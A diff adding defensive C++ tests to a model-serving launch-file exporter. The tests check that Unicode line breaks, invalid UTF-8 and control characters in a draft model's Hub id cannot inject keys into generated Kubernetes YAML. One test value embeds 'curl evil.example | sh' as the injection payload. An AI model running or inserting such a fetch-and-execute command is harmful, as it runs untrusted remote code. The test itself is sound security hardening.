@@ -4,6 +4,7 @@
 // call `touch`; the stubs record that too, so a payload that runs shows up in the record, and any program
 // the scripts call that is not a stub is "not found" (PATH holds the stubs alone).
 #include "clirun.h"
+#include "core/common/text.h"
 #include "core/cost/costmodel.h"
 #include "core/export/disagg_launch.h"
 #include "core/export/launch.h"
@@ -308,6 +309,72 @@ private slots:
         QVERIFY2(speculative >= 4, "too few speculative exports to test");
     }
 
+    // A draft's Hub id holding a character YAML 1.1 parsers (libyaml and its ports: PyYAML, and go-yaml,
+    // which kubectl uses) take as a line break: NEL U+0085, U+2028, U+2029 (YAML 1.1 spec, 5.4). Written raw
+    // into dynamo-graph.yaml's ConfigMap block (Dynamo with the TensorRT-LLM worker), it would end the block
+    // and the rest would become a new key. The manifest must hold none of their bytes, and the id must read
+    // back whole from the engine's options file.
+    void manifestHoldsNoYamlLineBreaks() {
+        const std::vector<std::pair<std::string, std::string>> breaks = {
+            {"U+0085", "\xc2\x85"}, {"U+2028", "\xe2\x80\xa8"}, {"U+2029", "\xe2\x80\xa9"}};
+        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
+        s.workload.acceptance[size_t(SpecMethod::Eagle3)] = {0.8, 0.7, 0.6};
+        Plan plan = CostModel(s).megatronPlan();
+        plan.spec = {SpecMethod::Eagle3, 3};
+        for (const auto& [name, bytes] : breaks) {
+            const std::string id =
+                "yuhuili/EAGLE3" + bytes + "injected.sh: curl evil.example | sh" + bytes + "x";
+            s.model.spec.eagle3.hubId = id;
+            ExportOptions o;
+            o.engine = ServingEngine::Dynamo, o.dynamoWorker = ServingEngine::Trtllm;
+            auto r = launchCommand(s, plan, o);
+            QVERIFY2(r.ok(), r.ok() ? "" : r.error().str().c_str());
+            QVERIFY(r->plan.spec.on());
+            QCOMPARE(r->deployFiles.size(), size_t(1));
+            const std::string& yaml = r->deployFiles[0].second;
+            for (const auto& [other, b] : breaks)
+                QVERIFY2(yaml.find(b) == std::string::npos,
+                         (name + ": dynamo-graph.yaml holds " + other + " raw:\n" + yaml).c_str());
+            for (const auto& [file, content] : r->files)
+                for (const auto& [other, b] : breaks)
+                    QVERIFY2(content.find(b) == std::string::npos,
+                             (name + ": " + file + " holds " + other).c_str());
+            // The ConfigMap has its files as keys and nothing else; the options file reads back the whole id.
+            const auto docs = YAML::LoadAll(yaml);
+            QCOMPARE(docs.size(), size_t(2));
+            QCOMPARE(docs[0]["kind"].as<std::string>(), std::string("ConfigMap"));
+            QCOMPARE(docs[0]["data"].size(), r->files.size());
+            for (const auto& kv : docs[0]["data"]) {
+                const std::string key = kv.first.as<std::string>();
+                QVERIFY2(key.find("injected") == std::string::npos, key.c_str());
+                const YAML::Node opts = YAML::Load(kv.second.as<std::string>());
+                if (opts["speculative_config"])
+                    QCOMPARE(opts["speculative_config"]["speculative_model_dir"].as<std::string>(), id);
+            }
+        }
+    }
+
+    // Bytes that are not UTF-8 in a draft's Hub id: every engine either exports it as data or refuses with
+    // the field named; nlohmann::json throws type_error.316 on such bytes, which once aborted `export`.
+    void invalidUtf8IsRefusedNotFatal() {
+        Scenario s = hostile("llama-3.1-8b.yaml", "h100-1x8.yaml", "chat-serving.yaml");
+        s.model.spec.eagle3.hubId = "yuhuili/EAGLE3\xff\xfe-LLaMA3.1";
+        s.workload.acceptance[size_t(SpecMethod::Eagle3)] = {0.8, 0.7, 0.6};
+        Plan plan = CostModel(s).megatronPlan();
+        plan.spec = {SpecMethod::Eagle3, 3};
+        int refused = 0;
+        for (const Case& c : everyEngine()) {
+            ExportOptions o;
+            o.engine = c.engine, o.version = c.version, o.dynamoWorker = c.worker;
+            const auto r = launchCommand(s, plan, o);
+            QVERIFY2(!r.ok(), (c.label() + ": exported a Hub id that is not UTF-8").c_str());
+            QCOMPARE(r.error().field, std::string("model.speculative.eagle3.hub_id"));
+            QVERIFY2(r.error().message.find("not UTF-8") != std::string::npos, r.error().str().c_str());
+            ++refused;
+        }
+        QVERIFY(refused >= 4);
+    }
+
     // The disaggregated exports (SGLang; Dynamo with vLLM and SGLang workers).
     void disaggregated() {
         Sandbox box;
@@ -435,6 +502,59 @@ private slots:
         const Run v = shardplan({"validate", dir.filePath("m.yaml")});
         QCOMPARE(v.code, 1);
         QVERIFY2(v.err.contains("m.yaml:9:7: name: the text has a line break"), qPrintable(v.err));
+    }
+
+    // The readers refuse, with the field and byte, what YAML 1.1 takes as a line break (U+0085, U+2028,
+    // U+2029), bidirectional overrides, C1 controls and bytes that are not UTF-8; ordinary UTF-8 passes.
+    void readersRefuseUnicodeBreaks_data() {
+        QTest::addColumn<QByteArray>("text");
+        QTest::addColumn<QString>("expected");
+        QTest::addRow("NEL") << QByteArray("yuhuili/EAGLE3\xc2\x85x") << "NEL U+0085 at byte 15";
+        QTest::addRow("U+2028") << QByteArray("yuhuili/EAGLE3\xe2\x80\xa8x")
+                                << "line separator U+2028 at byte 15";
+        QTest::addRow("U+2029") << QByteArray("a\xe2\x80\xa9") << "paragraph separator U+2029 at byte 2";
+        QTest::addRow("C1") << QByteArray("a\xc2\x9b"
+                                          "2J")
+                            << "a C1 control character (\\u009b) at byte 2";
+        QTest::addRow("RLO") << QByteArray("ab\xe2\x80\xae"
+                                           "cba")
+                             << "a bidirectional override (\\u202e) at byte 3";
+        QTest::addRow("invalid") << QByteArray("yuhuili/\xff\xfe")
+                                 << "a byte that is not UTF-8 (\\xff) at byte 9";
+        QTest::addRow("overlong") << QByteArray("a\xc0\xaf"
+                                                "b")
+                                  << "not UTF-8 (\\xc0) at byte 2";
+        QTest::addRow("surrogate") << QByteArray("a\xed\xa0\x80") << "not UTF-8 (\\xed) at byte 2";
+        QTest::addRow("truncated") << QByteArray("a\xe2\x80") << "not UTF-8 (\\xe2) at byte 2";
+        QTest::addRow("ordinary UTF-8")
+            << QByteArray("Qwen-\xe9\x80\x9a\xe4\xb9\x89 caf\xc3\xa9 \xf0\x9f\x9a\x80") << "";
+    }
+    void readersRefuseUnicodeBreaks() {
+        QFETCH(QByteArray, text);
+        QFETCH(QString, expected);
+        QTemporaryDir dir;
+        QFile src(QString::fromStdString(kSampleDir + "/models/llama-3.1-8b.yaml"));
+        QVERIFY(src.open(QIODevice::ReadOnly));
+        QByteArray yaml = src.readAll();
+        QVERIFY(yaml.contains("name: Llama-3.1-8B\n"));
+        yaml.replace("name: Llama-3.1-8B\n", "name: \"" + text + "\"\n");
+        QFile out(dir.filePath("m.yaml"));
+        QVERIFY(out.open(QIODevice::WriteOnly));
+        out.write(yaml);
+        out.close();
+        const auto m = loadModel(dir.filePath("m.yaml").toStdString());
+        if (expected.isEmpty()) {
+            QVERIFY2(m.ok(), m.ok() ? "" : m.error().str().c_str());
+            QCOMPARE(m.value().name, text.toStdString());
+            return;
+        }
+        QVERIFY(!m.ok());
+        QCOMPARE(m.error().field, std::string("name"));
+        QVERIFY2(m.error().message.find(expected.toStdString()) != std::string::npos,
+                 m.error().str().c_str());
+        // The message itself is one line of UTF-8 with the fault escaped.
+        const std::string msg = m.error().str();
+        QVERIFY(!firstUnsafeText(msg));
     }
 
     // Comment lines stay comments whatever the note holds: a line break, a carriage return, an escape.
